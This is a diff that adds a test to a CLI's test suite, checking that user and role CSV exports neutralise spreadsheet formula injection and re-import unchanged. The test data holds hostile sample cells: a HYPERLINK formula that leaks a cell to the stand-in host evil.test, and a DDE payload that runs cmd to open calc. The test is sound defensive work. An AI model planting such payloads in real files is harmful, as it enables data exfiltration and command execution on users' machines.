@@ -152,6 +152,26 @@ describe('paybench users and roles', () => {
     expect(download.stdout.split('\n')[0]).toBe('email,firstName,lastName,roles,manager,status');
   });
 
+  it('exports names that look like formulas as text, and takes its own exports back unchanged', () => {
+    const people = file('formulas.csv', `email,firstName,lastName,roles\nformula@${domain},"=HYPERLINK(""http://evil.test/?leak=""&Q2)",+SUM(1+1),employee\n`);
+    expect(paybench(['users', 'import', people], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
+    const users = paybench(['users', 'export'], env).stdout;
+    expect((parse(users, { columns: true }) as Record<string, string>[]).find((row) => row.email === `formula@${domain}`)).toMatchObject({
+      firstName: `'=HYPERLINK("http://evil.test/?leak="&Q2)`,
+      lastName: "'+SUM(1+1)",
+    });
+    expect(paybench(['users', 'import', file('formulas-export.csv', users), '--dry-run'], env).stdout).toMatch(/^0 to create, 0 to update, \d+ unchanged\n$/);
+
+    const roles = file('formula-roles.csv', `key,name,description,permissions\nformulas,-2+3+cmd|' /C calc'!A0,"@SUM(1,2)",{}\n`);
+    expect(paybench(['roles', 'import', roles], env).stdout).toBe('1 created, 0 updated, 0 unchanged\n');
+    const exported = paybench(['roles', 'export'], env).stdout;
+    expect((parse(exported, { columns: true }) as Record<string, string>[]).find((row) => row.key === 'formulas')).toMatchObject({
+      name: "'-2+3+cmd|' /C calc'!A0",
+      description: "'@SUM(1,2)",
+    });
+    expect(paybench(['roles', 'import', file('formula-roles-export.csv', exported)], env).stdout).toMatch(/^0 created, 0 updated, \d+ unchanged\n$/);
+  });
+
   it('prints shell completion for bash and zsh', () => {
     const bash = paybench(['completion', 'bash']);
     expect(bash.stdout).toContain('complete -o default -F _paybench paybench');
